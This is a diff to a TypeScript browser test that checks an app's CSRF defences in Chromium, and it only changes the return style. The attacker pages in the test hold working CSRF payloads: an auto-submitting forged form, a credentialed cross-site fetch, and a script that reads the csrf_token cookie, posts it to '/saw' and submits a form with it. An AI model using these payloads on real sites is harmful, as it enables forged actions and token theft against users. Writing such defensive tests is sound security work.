@@ -76,17 +76,20 @@ test('CSRF in Chromium: same-origin forms and fetches pass, cross-site and same-
   const attackerPages = (req: http.IncomingMessage, res: http.ServerResponse): void => {
     const path = req.url!;
     if (path === '/autoform') {
-      return html(res, `<form id="f" method="POST" action="${appUrl}/submit"><input name="_csrf_token" value="guess"><input name="title" value="pwned"></form><script>document.getElementById('f').submit()</script>`);
+      html(res, `<form id="f" method="POST" action="${appUrl}/submit"><input name="_csrf_token" value="guess"><input name="title" value="pwned"></form><script>document.getElementById('f').submit()</script>`);
+      return;
     }
     if (path === '/fetch') {
-      return html(res, `<script>window.result = fetch('${appUrl}/submit', { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: 'title=pwned' }).then(r => 'status ' + r.status, e => 'error ' + e.name)</script>`);
+      html(res, `<script>window.result = fetch('${appUrl}/submit', { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: 'title=pwned' }).then(r => 'status ' + r.status, e => 'error ' + e.name)</script>`);
+      return;
     }
     if (path === '/sibling-form') {
-      return html(
+      html(
         res,
         `<form id="f" method="POST" action="${appUrl}/submit"><input id="t" name="_csrf_token"><input name="title" value="pwned"></form>` +
           `<script>const m = document.cookie.match(/(?:^|; )csrf_token=([^;]+)/); document.getElementById('t').value = m ? m[1] : 'none'; fetch('/saw', { method: 'POST', body: m ? m[1] : 'none' }).then(() => document.getElementById('f').submit())</script>`,
       );
+      return;
     }
     if (path === '/saw') {
       void readBody(req).then((body) => {
